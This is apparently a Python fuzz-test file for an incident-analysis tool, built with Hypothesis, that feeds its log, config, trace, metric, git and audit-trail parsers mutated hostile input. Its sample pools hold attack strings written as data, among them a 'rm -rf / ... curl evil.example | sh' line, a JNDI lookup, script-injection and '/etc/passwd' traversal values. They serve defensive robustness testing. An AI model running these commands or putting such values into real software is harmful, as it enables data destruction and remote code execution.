"""Every parser against generated hostile input: no unhandled exception, ever.

An incident tool reads what a failing system wrote, configs typed in a hurry and files handed over
by others. Each test below feeds one parser inputs built from its own format's pieces (so they get
past the first checks), mutated and mixed with arbitrary text and bytes, and checks that it either
returns a well-formed result or refuses with its documented error (``ConfigError``,
``SourceError``, ``ValueError``), never anything else. All run in process, one call per input.

Most inputs are built by a seeded generator from two Hypothesis draws, a seed and a piece of
arbitrary Unicode (:func:`seeded`): a handful of draws per input instead of hundreds keeps 10,000
inputs a test affordable in CI, while Hypothesis still explores and shrinks both draws.

With ``HYPOTHESIS_PROFILE=ci`` each test gets 10,000 inputs (``tests/hypothesis_profiles.py``);
``read_records``, which packs (gzip) and reads a real file per input, gets a tenth of that.
``docs/reliability.md`` lists them.
"""

from __future__ import annotations

import contextlib
import gzip
import io
import math
import os
import random
from collections.abc import Callable, Iterator, Sequence
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from hypothesis_profiles import FUZZ, SMALL

from incident_flow.analysis.masking import mask
from incident_flow.analysis.redact import PLACEHOLDER, Redactor
from incident_flow.analysis.stacktraces import classify_error, fingerprint, parse_traces
from incident_flow.analysis.templates import TemplateMiner
from incident_flow.audit import verify_content
from incident_flow.config import ConfigError, build_source_specs, load_config, parse_config
from incident_flow.logs import FORMATS, read_records
from incident_flow.logs.base import strip_ansi
from incident_flow.logs.detect import choose_format, sample
from incident_flow.logs.formats import FormatOptions, make_format
from incident_flow.logs.levels import LEVELS
from incident_flow.logs.multiline import assemble
from incident_flow.logs.nginx import compile_log_format
from incident_flow.logs.pattern import compile_pattern
from incident_flow.logs.reader import _split
from incident_flow.logs.timestamps import TimeParser
from incident_flow.metrics.csv import CsvPoints, read_csv_points
from incident_flow.metrics.prometheus import component_of, parse_matrix, parse_series_list, selector
from incident_flow.plugins import make_plugin_host
from incident_flow.sources import LogRecord, SourceError
from incident_flow.sources.changes import read_events
from incident_flow.sources.postgres import conninfo_without_password, redact_dsn
from incident_flow.timeutil import parse_duration, parse_time, parse_timezone

REFERENCE = datetime(2026, 3, 14, 14, 10, tzinfo=UTC)
LAYOUTS = [
    "<Date> <Time> <Level> <Content>",
    r"<Date> <Time> <Pid> <Level> <Component>: <Content>",
    r"\[<Time>\] \[<Level>\] <Content>",
    r"(?P<level>[A-Z]+) (?P<message>.*)",
]
LOG_FORMATS = [
    '$remote_addr - $remote_user [$time_local] "$request" $status $body_bytes_sent',
    '$remote_addr [$time_local] "$request" $status $request_time $upstream_response_time "$http_user_agent"',
]
FORMAT_NAMES = [name for name in FORMATS if name not in ("auto", "pattern")]
OPTIONS = [(name, FormatOptions()) for name in FORMAT_NAMES]
OPTIONS += [(f"pattern:{layout}", FormatOptions(pattern=compile_pattern(layout))) for layout in LAYOUTS]
OPTIONS += [(f"nginx:{fmt}", FormatOptions(log_format=compile_log_format(fmt))) for fmt in LOG_FORMATS]

# -- the pieces hostile log lines are made of ------------------------------------------------------

SAMPLES = [
    '{"ts": "2024-01-02T03:04:05Z", "level": "error", "msg": "boom", "service": "orders"}',
    '{"time": 1704164645, "lvl": 50, "message": {"nested": [1, 2]}, "exception": "Traceback\\n  x"}',
    '{"@timestamp": "2024-01-02T03:04:05.123+01:00", "log.level": "WARN", "log": "x", '
    '"error.stack_trace": 1}',
    '{"timestamp": 1e308, "level": null, "msg": [], "time": "9999-99-99"}',
    'time=2024-01-02T03:04:05Z level=warn msg="slow \\"query\\"" dur=3s',
    'ts=1704164645.5 lvl=err msg= "unterminated',
    '10.0.0.1 - - [02/Jan/2024:03:04:05 +0000] "GET /x HTTP/1.1" 502 12 "-" "curl" 0.1 0.2',
    '::1 - bob [31/Feb/2024:25:61:61 +9999] "\\x16\\x03\\x01" 400 - "-" "-"',
    '2024/01/02 03:04:05 [error] 1#1: *2 upstream timed out, client: 1.2.3.4, upstream: "http://a"',
    "Mar  1 10:00:00 host app[12]: message",
    "<13>1 2024-01-02T03:04:05Z host app - - - msg",
    "<999>1 - - - - - -",
    "2024-01-02 03:04:05.123 UTC [1] ERROR:  boom",
    "2024-01-02 03:04:05.123 UTC [1] DETAIL:  more",
    "2024-01-02 03:04:05,123 ERROR [orders] failed",
    "2024-01-02 03:04:05.123 [main] INFO com.x.Y - ok",
    "2024/01/02 03:04:05 listening",
    "E0102 03:04:05.123456   1 x.go:1] bad",
    "Traceback (most recent call last):",
    '  File "x.py", line 1, in <module>',
    "ValueError: bad value",
    "\tat com.x.Y.z(Y.java:1)",
    "Caused by: java.io.IOException: x",
    "\t... 12 more",
    "goroutine 1 [running]:",
    "main.main()",
    "panic: oops",
    "\x1b[31mERROR\x1b[0m coloured \x1b]0;title\x07 \x1b[2J",
    "Feb 30 10:00:00 host app: an impossible date",
    "9999-99-99 99:99:99,999 ERROR [x] impossible time",
    "0000-00-00T00:00:00Z",
    "<script>alert(1)</script> **bold** [x](javascript:alert(1)) | a | b |",
    "$(rm -rf /) `id` ; reboot && curl evil.example | sh",
    "\u202eevil\u200b\ufeff\x00\x7f",
]

_CHARS = st.characters(exclude_categories=["Cs"], exclude_characters="\n\r")
#: Characters and runs that break parsers: controls, escapes, quotes, brackets, odd Unicode.
_PALETTE = (
    *"\x00\x01\x07\x08\t\x0b\x0c\x1b\x7f\x85\xa0\u2028\u2029\u200b\u202e\ufeff\ufffd",
    *"\"'\\{}[]<>=:,;|$`%&#*?!~^()",
    "\x1b[31m",
    "\x1b[0m",
    "\x1b]0;t\x07",
    "é",
    "字",
    "🔥",
    " ",
    "  ",
    "%s",
    "${jndi:ldap://x}",
    "0",
    "-1",
    "1e999",
    "NaN",
    "null",
    "true",
    "9" * 30,
    "\\u0000",
    "\\x",
    "%00",
    "..",
    "/",
)
_SEED = st.integers(0, 2**32 - 1)
_NOISE = st.text(max_size=24)


def seeded(build: Callable[[random.Random, str], Any]) -> st.SearchStrategy[Any]:
    """A strategy of ``build(rng, noise)``: ``rng`` seeded by Hypothesis, ``noise`` arbitrary text."""
    return st.builds(lambda seed, noise: build(random.Random(seed), noise), _SEED, _NOISE)


def _junk(rng: random.Random, noise: str) -> str:
    """A run of palette characters, or a slice of the noise."""
    if noise and rng.random() < 0.4:
        start = rng.randrange(len(noise))
        return noise[start : start + rng.randint(1, 16)]
    return "".join(rng.choice(_PALETTE) for _ in range(rng.randint(1, 6)))


def _mutated(rng: random.Random, text: str, noise: str) -> str:
    """``text`` cut, spliced with junk, with a character replaced or a slice repeated, or as it is."""
    roll = rng.random()
    cut = rng.randint(0, len(text))
    if roll < 0.35:
        return text
    if roll < 0.5:
        return text[:cut]
    if roll < 0.6:
        return text[cut:]
    if roll < 0.8:
        return text[:cut] + _junk(rng, noise) + text[cut:]
    if roll < 0.9 and text:
        index = rng.randrange(len(text))
        return text[:index] + rng.choice(_PALETTE) + text[index + 1 :]
    return text[:cut] + text[cut : cut + rng.randint(1, 10)] * rng.randint(2, 5) + text[cut:]


def _line(rng: random.Random, noise: str, pool: Sequence[str]) -> str:
    parts = [rng.choice(pool) if rng.random() < 0.7 else _junk(rng, noise) for _ in range(rng.randint(1, 3))]
    return _mutated(rng, "".join(parts), noise).replace("\n", " ").replace("\r", " ")


def _lines(rng: random.Random, noise: str, pool: Sequence[str], low: int, high: int) -> list[str]:
    return [_line(rng, noise, pool) for _ in range(rng.randint(low, high))]


def hostile_line_lists(low: int, high: int) -> st.SearchStrategy[list[str]]:
    """Lists of ``low`` to ``high`` lines of every format, mutated and mixed with junk."""
    return seeded(lambda rng, noise: _lines(rng, noise, SAMPLES, low, high))


def _log_bytes(rng: random.Random, noise: str) -> bytes:
    """A log file's bytes: hostile lines in UTF-8 or UTF-16, raw bytes, CRLF or LF, maybe a BOM,
    now and then one very long line."""
    chunks: list[bytes] = []
    for line in _lines(rng, noise, SAMPLES, 0, 12):
        roll = rng.random()
        if roll < 0.75:
            chunks.append(line.encode("utf-8", "surrogatepass"))
        elif roll < 0.85:
            chunks.append(line.encode("utf-16-le", "surrogatepass"))
        else:
            chunks.append(rng.randbytes(rng.randint(0, 40)).replace(b"\n", b""))
    if chunks and rng.random() < 0.03:
        chunks[rng.randrange(len(chunks))] += b"x" * rng.randint(60_000, 140_000)
    data = (b"\r\n" if rng.random() < 0.3 else b"\n").join(chunks)
    if rng.random() < 0.5:
        data += b"\n"
    if rng.random() < 0.1:
        data = b"\xef\xbb\xbf" + data
    return data


log_bytes = seeded(_log_bytes)


def _check_parsed(parsed: Any) -> None:
    if parsed is None:
        return
    message, at, level, component, fields, extra = parsed
    assert isinstance(message, str)
    assert at is None or (isinstance(at, datetime) and at.tzinfo is not None)
    assert level is None or level in LEVELS
    assert component is None or isinstance(component, str)
    assert all(isinstance(k, str) and isinstance(v, str) for k, v in fields.items())
    assert extra is None or isinstance(extra, str)


def _check_record(record: LogRecord) -> None:
    assert isinstance(record.message, str) and isinstance(record.text, str)
    assert record.line >= 1
    assert record.at is None or record.at.tzinfo is not None
    assert record.level is None or record.level in LEVELS
    assert len(record.text) <= 70_000


# -- log formats ------------------------------------------------------------------------------------


@FUZZ
@given(lines=hostile_line_lists(1, 6))
def test_every_log_format_reads_any_line(lines: list[str]) -> None:
    """Every format (each built-in one, three loghub layouts, two nginx ``log_format``) on each input.

    One input is a few lines; every format reads all of them, line by line (``parse``,
    ``recognizes``) and as one file (the multi-line assembler), so each format gets every input.
    """
    cleaned = [strip_ansi(line).rstrip() for line in lines]
    for name, options in OPTIONS:  # fresh formats: they keep per-file state
        fmt = make_format(name.split(":")[0], TimeParser(reference=REFERENCE), options)
        for clean in cleaned:
            _check_parsed(fmt.parse(clean))
            assert isinstance(fmt.recognizes(clean), bool)
        for record in assemble(lines, fmt, source="s", path="p", warn=lambda _: None):
            _check_record(record)


@FUZZ
@given(data=log_bytes, chunk=st.sampled_from([7, 4096, 1 << 20]))
def test_the_reader_splits_any_bytes_and_auto_detects_a_format(data: bytes, chunk: int) -> None:
    """The line splitter (any bytes, any block size), auto-detection and the multi-line assembler."""
    stream = io.BytesIO(data)
    warnings: list[str] = []
    lines = _split(
        lambda size: stream.read(min(size, chunk)), Path("x.log"), warnings.append, compressed=False
    )
    times = TimeParser(reference=REFERENCE)
    head, rest = sample(lines)
    fmt = choose_format(head, times)
    for record in assemble(rest, fmt, source="s", path="x.log", warn=warnings.append):
        _check_record(record)
    assert all(isinstance(w, str) and "\n" not in w for w in warnings)


@pytest.fixture(scope="module")
def scratch(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("fuzz")


_READ_OPTIONS: list[dict[str, str]] = [{"format": name} for name in FORMATS if name != "pattern"]
_READ_OPTIONS += [{"pattern": layout} for layout in LAYOUTS] + [{"log_format": fmt} for fmt in LOG_FORMATS]


@SMALL
@given(
    data=log_bytes,
    packing=st.sampled_from(["plain", "gzip", "gzip-cut", "gzip-corrupt"]),
    options=st.sampled_from(_READ_OPTIONS),
)
def test_read_records_reads_any_file(
    scratch: Path, data: bytes, packing: str, options: dict[str, str]
) -> None:
    """``read_records`` end to end on a real file: plain, gzip, truncated or corrupt gzip."""
    path = scratch / "fuzz.log"
    if packing == "plain":
        path.write_bytes(data)
    else:
        packed = gzip.compress(data)
        if packing == "gzip-cut":
            packed = packed[: max(2, len(packed) // 2)]
        elif packing == "gzip-corrupt":
            packed = packed[:12] + bytes(b ^ 0x5A for b in packed[12:40]) + packed[40:]
        path.write_bytes(packed)
    warnings: list[str] = []
    for record in read_records([path], reference_time=REFERENCE, warn=warnings.append, **options):  # type: ignore[arg-type]
        _check_record(record)


# -- stack traces -----------------------------------------------------------------------------------

TRACE_PIECES = [
    "Traceback (most recent call last):",
    '  File "/srv/app/orders/views.py", line 42, in checkout',
    "    return pay(order)",
    '  File "<frozen importlib._bootstrap>", line 1, in <module>',
    "psycopg.OperationalError: connection refused",
    "During handling of the above exception, another exception occurred:",
    'Exception in thread "main" java.lang.IllegalStateException: boom',
    "\tat com.shop.orders.Service.place(Service.java:88)",
    "\tat java.base/java.lang.Thread.run(Thread.java:833)",
    "Caused by: java.net.ConnectException: Connection refused",
    "\t... 42 more",
    "\tSuppressed: x.Y: z",
    "panic: runtime error: invalid memory address or nil pointer dereference",
    "[signal SIGSEGV: segmentation violation code=0x1 addr=0x0 pc=0x4]",
    "goroutine 7 [running]:",
    "main.(*Server).handle(0xc000010000, {0x0, 0x0})",
    "\t/src/server.go:55 +0x1d",
    "created by main.main in goroutine 1",
    "TypeError: Cannot read properties of undefined (reading 'id')",
    "    at Object.<anonymous> (/app/index.js:10:5)",
    "    at async Promise.all (index 0)",
    "System.NullReferenceException: Object reference not set",
    "   at Shop.Orders.Place() in C:\\src\\Orders.cs:line 12",
    "--- End of inner exception stack trace ---",
    "((((((((((((((((((((((((((((((((((((((((",
    "at " + "a." * 500 + "b(",
]
_TRACE_POOL = TRACE_PIECES * 3 + SAMPLES


@FUZZ
@given(lines=seeded(lambda rng, noise: _lines(rng, noise, _TRACE_POOL, 0, 30)))
def test_stack_trace_parsing_takes_any_text(lines: list[str]) -> None:
    """``parse_traces``, ``fingerprint`` and ``classify_error`` on shuffled and broken traces."""
    text = "\n".join(lines)
    for trace in parse_traces(text):
        assert isinstance(fingerprint(trace), str)
        assert isinstance(trace.headline(), str) and trace.root is not None
        for frame in trace.all_frames():
            assert isinstance(frame.location(), str)
    found = classify_error(text)
    assert found is None or found.kind in ("concurrency", "validation")


# -- config -----------------------------------------------------------------------------------------

_TOML_PIECES = [
    "[settings]\n",
    'lookback = "2h"\n',
    'lookback = "-5m"\n',
    "lookback = 1e400\n",
    'change_lookback = "99999999999999999999d"\n',
    'timezone = "Europe/Paris"\n',
    'timezone = "../../etc/passwd"\n',
    'timezone = "UTC+99:99"\n',
    'investigator_timeout = "0s"\n',
    "investigator_timeout = nan\n",
    'phase_budgets = { investigate = "1ms", assess = "x" }\n',
    'audit_dir = "~nosuchuser/audit"\n',
    'audit_dir = "../../outside"\n',
    "[components]\n",
    'orders = { paths = ["services/orders/**"] }\n',
    '"" = { paths = [] }\n',
    "[[sources]]\n",
    'name = "app"\n',
    'name = ""\n',
    'type = "logs"\n',
    'type = "metrics-csv"\n',
    'type = "changes"\n',
    'type = "prometheus"\n',
    'type = "postgres"\n',
    'type = "nope"\n',
    'paths = ["logs/*.log"]\n',
    'paths = ["../../../../etc/passwd", "/dev/zero", "~/x", "**/**/**"]\n',
    'paths = "logs/app.log"\n',
    "paths = []\n",
    'format = "pattern"\n',
    'pattern = "<Date> <Time> <Level> <Content>"\n',
    'pattern = "(?P<"\n',
    'pattern = "<A><B><C>((((((("\n',
    'log_format = "$remote_addr [$time_local] \\"$request\\" $status"\n',
    'log_format = "$"\n',
    'url = "http://127.0.0.1:1"\n',
    'url = "file:///etc/passwd"\n',
    'dsn = "postgresql://u:p@127.0.0.1:1/db?connect_timeout=1"\n',
    'step = "1ns"\n',
    "max_series = -1\n",
    'headers = { Authorization = "Bearer x\\r\\nX: y" }\n',
    'component_field = "service"\n',
    "x = [1, [2, [3, [4]]]]\n",
    "y = 1979-05-27T07:32:00Z\n",
    'z = """multi\nline"""\n',
    "= broken\n",
    "[[settings]]\n",
    "\ufeff",
    "\x00",
]


def _document(rng: random.Random, noise: str, pieces: Sequence[str], most: int) -> bytes:
    """A file of lines from ``pieces`` (valid and invalid ones) and junk, in any order and encoding."""
    parts = [
        _mutated(rng, rng.choice(pieces), noise) if rng.random() < 0.85 else _junk(rng, noise) + "\n"
        for _ in range(rng.randint(0, most))
    ]
    encoding = rng.choice(["utf-8", "utf-8", "utf-8", "utf-16", "latin-1"])
    return "".join(parts).encode(encoding, "replace")


toml_documents = seeded(lambda rng, noise: _document(rng, noise, _TOML_PIECES, 14))


@pytest.fixture(scope="module")
def source_types() -> Any:
    return make_plugin_host().source_types()


_CHEAP_FACTORIES = ("logs", "metrics-csv", "changes", "prometheus", "postgres")


@FUZZ
@given(document=toml_documents)
def test_config_files_load_or_raise_config_error(scratch: Path, source_types: Any, document: bytes) -> None:
    """``load_config`` with every registered source type; the cheap factories build what loads."""
    path = scratch / "incident-flow.toml"
    path.write_bytes(document)
    try:
        config = load_config(path, source_types)
    except ConfigError as exc:
        assert "\n" not in str(exc) and str(path) in str(exc)
        return
    for spec in build_source_specs(config):
        if spec.type not in _CHEAP_FACTORIES:
            continue
        try:
            source = source_types[spec.type].factory(spec)
        except (ConfigError, SourceError, OSError):
            continue  # what build_sources turns into a problem line or a config error
        source.close()


_SCALARS: tuple[Any, ...] = (
    None,
    True,
    0,
    -1,
    2**70,
    1.5,
    float("nan"),
    float("inf"),
    "",
    "2h",
    "-1s",
    "0s",
    "logs",
    "prometheus",
    "UTC",
    "Mars/Olympus",
    "**",
    "../x",
    "~nobody/x",
    "app",
    "paths",
    REFERENCE,
    REFERENCE.date(),
)
_KEYS = (
    "settings",
    "components",
    "sources",
    "name",
    "type",
    "paths",
    "lookback",
    "timezone",
    "audit_dir",
    "phase_budgets",
    "investigate",
    "investigator_timeout",
    "format",
    "url",
    "orders",
    "",
)


def _value(rng: random.Random, noise: str, depth: int) -> Any:
    roll = rng.random()
    if depth > 3 or roll < 0.5:
        return rng.choice(_SCALARS) if rng.random() < 0.8 else noise
    if roll < 0.75:
        return [_value(rng, noise, depth + 1) for _ in range(rng.randint(0, 3))]
    return {
        (rng.choice(_KEYS) if rng.random() < 0.85 else noise): _value(rng, noise, depth + 1)
        for _ in range(rng.randint(0, 4))
    }


def _config_dict(rng: random.Random, noise: str) -> dict[str, Any]:
    return {rng.choice(_KEYS[:3]) if rng.random() < 0.9 else noise: _value(rng, noise, 1) for _ in range(3)}


@FUZZ
@given(document=seeded(_config_dict))
def test_parsed_documents_validate_or_raise_config_error(source_types: Any, document: dict[str, Any]) -> None:
    """``parse_config`` on arbitrary TOML-shaped values (what another tool might hand over)."""
    with contextlib.suppress(ConfigError):
        parse_config(document, path=None, source_types=source_types)


# -- eval cases -------------------------------------------------------------------------------------

_CASE_PIECES = [
    'description = "Checkout returning 502 errors"\n',
    'description = ""\n',
    "description = 5\n",
    'detected_at = "2026-03-14T14:10:00Z"\n',
    "detected_at = 2026-03-14T14:10:00\n",
    'detected_at = "yesterday"\n',
    'severity = "critical"\n',
    'severity = "apocalyptic"\n',
    "severity = 3\n",
    'system = "checkout"\n',
    "system = []\n",
    "[expected]\n",
    'component = "redis"\n',
    'component = ["redis", "cache"]\n',
    "component = [1, 2]\n",
    "component = {}\n",
    'category = "infrastructure"\n',
    'category = "weather"\n',
    "category = 7\n",
    'change = "3f2a9c1"\n',
    "change = 12345\n",
    "change = true\n",
    "change = []\n",
    "[other]\n",
    "= x\n",
]


case_files = seeded(lambda rng, noise: _document(rng, noise, _CASE_PIECES, 10))


def _canned_report() -> Any:
    from incident_flow.model import Assessment, Category, Change, Incident, Report, RootCause, Severity

    incident = Incident(id="inc-x", description="x", detected_at=REFERENCE)
    assessment = Assessment(severity=Severity.HIGH, category=Category.CODE, reasons=("x",))
    change = Change(id="3f2a9c1" + "0" * 33, summary="s", at=REFERENCE, kind="commit")
    cause = RootCause(
        rank=1,
        component="redis",
        category=Category.CODE,
        summary="s",
        confidence=0.5,
        evidence=(),
        change=change,
    )
    return Report(incident=incident, assessment=assessment, root_causes=(cause,))


@FUZZ
@given(document=case_files)
def test_eval_cases_load_and_score_or_raise_config_error(scratch: Path, document: bytes) -> None:
    """``load_case`` on any ``case.toml``, then scoring it against a report never raises."""
    from incident_flow.evaluation import _score, load_case

    folder = scratch / "case"
    folder.mkdir(exist_ok=True)
    (folder / "case.toml").write_bytes(document)
    try:
        case = load_case(folder)
    except ConfigError as exc:
        assert "\n" not in str(exc)
        return
    result = _score(case, _canned_report(), 0.1)
    assert result.component_rank in (None, 1)


# -- the other parsers: times, durations, metrics, changes, git, DSNs, audit trails ----------------

_TIME_TEXT = st.sampled_from(
    [
        "2026-03-14T14:10:00Z",
        "2026-03-14 14:10:00+01:00",
        "2026-03-14",
        "1773497400",
        "1773497400.5",
        "99999999999999999999",
        "-1",
        "nan",
        "inf",
        "2026-13-45T25:61:61Z",
        "0001-01-01T00:00:00-23:59",
        "9999-12-31T23:59:59+23:59",
        "Mar  1 10:00:00",
        "14/Mar/2026:14:10:00 +0000",
        "Sat, 14 Mar 2026 14:10:00 GMT",
        "E0314 14:10:00.123456",
        "14:10:00.123",
    ]
) | st.text(max_size=30)


_DSN_PIECES = st.sampled_from(
    [
        "postgresql://",
        "postgres://",
        "user",
        ":",
        "p@ss",
        "@",
        "host",
        "/db",
        "?",
        "password=",
        "x y",
        "'quoted'",
        "\\",
        "%zz",
        "[::1]",
        ":99999",
        "sslmode=require",
        "=",
        " ",
        "host=a port=b",
    ]
)


@FUZZ
@given(
    first=_TIME_TEXT,
    second=_TIME_TEXT,
    zone=st.sampled_from(["UTC", "Europe/Paris", "+05:30", "Nope/Zone"]) | st.text(max_size=12),
    dsn=st.lists(_DSN_PIECES | st.text(max_size=6), max_size=10).map("".join),
)
def test_times_durations_zones_and_dsns_parse_or_raise_value_error(
    first: str, second: str, zone: str, dsn: str
) -> None:
    """``parse_time``, ``parse_duration``, ``parse_timezone``, the log timestamp parser, and the
    PostgreSQL source's DSN handling (``redact_dsn``, ``conninfo_without_password``)."""
    for call in (lambda: parse_time(first + second), lambda: parse_duration(first)):
        with contextlib.suppress(ValueError):
            call()
    try:
        tz = parse_timezone(zone)
    except ValueError:
        tz = None
    parsed = TimeParser(tz, REFERENCE).parse(first + second)
    assert parsed is None or parsed.tzinfo is not None
    assert isinstance(redact_dsn(dsn), str)
    with contextlib.suppress(ValueError, SourceError):
        assert isinstance(conninfo_without_password(dsn), str)


_CSV_CELLS = (
    "time",
    "timestamp",
    "series",
    "value",
    "orders_cpu",
    "payments_latency_ms",
    "1773497400",
    "2026-03-14T14:10:00Z",
    "nan",
    "inf",
    "-1e400",
    "1e400",
    "",
    '"',
    "a,b",
    "0x10",
    "1_000",
    "\x00",
    "series_value",
    "component",
    "-",
    "1.5",
    "99999999999999999999",
)


def _csv_rows(rng: random.Random, noise: str) -> list[list[str]]:
    width = rng.randint(0, 6)
    return [
        [
            rng.choice(_CSV_CELLS) if rng.random() < 0.85 else _junk(rng, noise)
            for _ in range(width + rng.randint(-1, 1))
        ]
        for _ in range(rng.randint(0, 12))
    ]


@FUZZ
@given(rows=seeded(_csv_rows), layout=st.sampled_from(["auto", "wide", "long"]))
def test_metric_csv_rows_read_or_warn(rows: list[list[str]], layout: str) -> None:
    """``read_csv_points``: a bad cell or row is a warning, never an exception."""
    points = CsvPoints()
    warnings: list[str] = []
    try:
        read_csv_points(rows, file="m.csv", points=points, layout=layout, warn=warnings.append)
    except ValueError as exc:  # the layout asked for is not the file's: a one-line error
        assert "\n" not in str(exc)


_JSON_SCALARS: tuple[Any, ...] = (
    None,
    True,
    False,
    0,
    -1,
    1.5,
    1e308,
    float("nan"),
    float("inf"),
    "",
    "NaN",
    "+Inf",
    "1",
    "x",
    "success",
    "error",
    "matrix",
    "vector",
    "__name__",
    "up",
    "1714564800",
    [1714564800, "1"],
    ["bad", "1"],
    [1, 2, 3],
)
_JSON_KEYS = (
    "status",
    "data",
    "resultType",
    "result",
    "metric",
    "values",
    "error",
    "errorType",
    "warnings",
    "__name__",
    "service",
    "instance",
    "",
)


def _json(rng: random.Random, noise: str, depth: int = 0) -> Any:
    roll = rng.random()
    if depth > 4 or roll < 0.45:
        return rng.choice(_JSON_SCALARS) if rng.random() < 0.85 else noise
    if roll < 0.7:
        return [_json(rng, noise, depth + 1) for _ in range(rng.randint(0, 4))]
    return {
        (rng.choice(_JSON_KEYS) if rng.random() < 0.85 else noise): _json(rng, noise, depth + 1)
        for _ in range(rng.randint(0, 4))
    }


@FUZZ
@given(
    payload=seeded(_json),
    labels=seeded(
        lambda rng, noise: {_junk(rng, noise): _junk(rng, noise) for _ in range(rng.randint(0, 3))}
    ),
)
def test_prometheus_answers_parse_or_raise_source_error(payload: Any, labels: dict[str, str]) -> None:
    """Range-query and discovery answers of any shape; label sets of any text."""
    for wrapped in (
        payload,
        {"status": "success", "data": payload},
        {"status": "success", "data": {"resultType": "matrix", "result": payload}},
        {
            "status": "success",
            "data": {"resultType": "matrix", "result": [{"metric": labels, "values": payload}]},
        },
    ):
        for parse in (parse_matrix, parse_series_list):
            with contextlib.suppress(SourceError):
                parse(wrapped)
    assert isinstance(selector(labels), str)
    assert isinstance(component_of(labels, ("service", "instance", "job")), str)


_EVENT_PIECES = [
    '{"id": "d-1", "at": "2026-03-14T14:00:00Z", "kind": "deploy", "component": "orders", "version": "1.2"}',
    '{"id": 5, "at": 1773497400, "kind": ["x"], "files": "a.py"}',
    '{"at": "never"}',
    "[",
    "]",
    "id,at,kind,summary\n",
    "d-2,2026-03-14T14:00:00Z,flag,on\n",
    "a;b;c\n",
    '"unterminated,\n',
    "\ufeff",
]


@FUZZ
@given(
    parts=seeded(lambda rng, noise: _lines(rng, noise, _EVENT_PIECES, 0, 8)),
    suffix=st.sampled_from([".jsonl", ".csv", ".json", ".log"]),
)
def test_change_event_files_read_or_warn(scratch: Path, parts: list[str], suffix: str) -> None:
    """``read_events`` on change-event files of any content: bad records are warnings."""
    path = scratch / f"events{suffix}"
    path.write_text("\n".join(parts), encoding="utf-8", errors="replace")
    warnings: list[str] = []
    for event in read_events([path], timezone=UTC, warn=warnings.append):
        assert event.change.at.tzinfo is not None and event.change.id


@pytest.fixture(scope="module")
def git_source(tmp_path_factory: pytest.TempPathFactory) -> Any:
    import subprocess

    from incident_flow.sources.git import GitSource

    repo = tmp_path_factory.mktemp("git")
    subprocess.run(["git", "init", "-q", str(repo)], check=True)
    return GitSource("code", repo)


_FIELD, _RECORD = "\x1f", "\x1e"
_SHA = "a" * 40


_GIT_FIELDS: tuple[tuple[str, ...], ...] = (
    (_SHA, "", "zz", "A" * 40, _SHA + "0"),
    ("", _SHA, f"{_SHA} {_SHA}"),
    ("1773497400", "-5", "99999999999999999999", "", "1e3", "\u0661"),
    ("1773497400", "x", ""),
    ("Alice", "", "$(id)"),
    ("a@b.example", ""),
    ("fix: x", "", _FIELD, _RECORD, "\x00", "subject\twith\ttabs"),
    ("", "tag: v1, HEAD -> main", "tag: ", "tag: v1\x1f"),
)
_NUMSTAT = ("1", "-", "x", "", "\u00b2", "12")


def _git_log(rng: random.Random, noise: str) -> bytes:
    """What ``git log --format=... --numstat -z`` prints, with fields a hostile commit could forge."""
    records = []
    for _ in range(rng.randint(0, 4)):
        fields = [
            rng.choice(choices) if rng.random() < 0.85 else _junk(rng, noise) for choices in _GIT_FIELDS
        ]
        numstat = "".join(
            f"{rng.choice(_NUMSTAT)}\t{rng.choice(_NUMSTAT)}\t{_junk(rng, noise)}\x00"
            for _ in range(rng.randint(0, 3))
        )
        records.append(_RECORD + _FIELD.join(fields[: rng.randint(0, 8)]) + "\x00\n" + numstat)
    text = "".join(records)
    return _mutated(rng, text, noise).encode("utf-8", "surrogatepass")


@FUZZ
@given(raw=seeded(_git_log))
def test_git_log_output_parses_whatever_the_commits_hold(git_source: Any, raw: bytes) -> None:
    """The git source's ``git log`` parser: subjects and names may hold the separators themselves."""
    for commit in git_source._parse_log(raw):
        assert len(commit.sha) > 0 and commit.at.tzinfo is not None


def _valid_trail() -> bytes:
    from incident_flow.audit import AuditTrail

    stream = io.BytesIO()
    trail = AuditTrail.to_stream(stream, "inc-fuzz", incident={"description": "x"})
    for index in range(5):
        trail.record("finding", title=f"finding {index}", confidence=0.5, lines=["a", "b"])
    trail.close()
    return stream.getvalue()


_TRAIL = _valid_trail()


def _trail_bytes(rng: random.Random, noise: str) -> bytes:
    """A valid trail, then a few edits: bytes flipped or inserted, lines removed, swapped, repeated,
    cut, re-spaced or replaced by junk."""
    lines = _TRAIL.split(b"\n")
    for _ in range(rng.randint(0, 3)):
        roll, index = rng.random(), rng.randrange(len(lines))
        line = lines[index]
        if roll < 0.25 and line:
            at = rng.randrange(len(line))
            lines[index] = line[:at] + bytes([rng.randrange(256)]) + line[at + 1 :]
        elif roll < 0.4:
            del lines[index]
        elif roll < 0.55:
            other = rng.randrange(len(lines))
            lines[index], lines[other] = lines[other], lines[index]
        elif roll < 0.7:
            lines.insert(index, line)
        elif roll < 0.8:
            lines[index] = line[: rng.randint(0, len(line))]
        elif roll < 0.9:
            lines[index] = line.replace(b",", b", ")
        else:
            lines[index] = _junk(rng, noise).encode("utf-8", "surrogatepass")
    return b"\n".join(lines)


@FUZZ
@given(data=seeded(_trail_bytes))
def test_audit_trails_of_any_content_verify_without_raising(data: bytes) -> None:
    """``verify_content`` (what ``incident-flow audit verify`` runs) on edited trails: intact only
    when the edit left the trail as it was."""
    result = verify_content(data)
    assert result.ok == (data == _TRAIL) or (result.ok and data.rstrip(b"\n") == _TRAIL.rstrip(b"\n"))
    assert result.problem is None or "\n" not in result.problem


# -- text analysis: templates, masking, redaction ---------------------------------------------------


@FUZZ
@given(messages=hostile_line_lists(1, 8))
def test_template_mining_masking_and_redaction_take_any_message(messages: list[str]) -> None:
    """The template miner, the variable masker and the redactor on hostile messages."""
    miner = TemplateMiner()
    redactor = Redactor()
    for message in messages:
        template = miner.add(message)
        assert isinstance(template.template, str)
        assert isinstance(mask(message), str)
        once = redactor.redact(message)
        assert redactor.redact(once) == once
        assert PLACEHOLDER.search(once) is not None or once == message


# -- sanity ------------------------------------------------------------------------------------------


def test_the_fuzz_profile_is_the_one_ci_asks_for() -> None:
    """With ``HYPOTHESIS_PROFILE=ci`` every fuzz test above gets at least 10,000 inputs."""
    from hypothesis_profiles import FUZZ_EXAMPLES

    if os.environ.get("HYPOTHESIS_PROFILE", "").lower() == "ci":
        assert FUZZ_EXAMPLES >= 10_000 and SMALL.max_examples >= 1_000
    else:
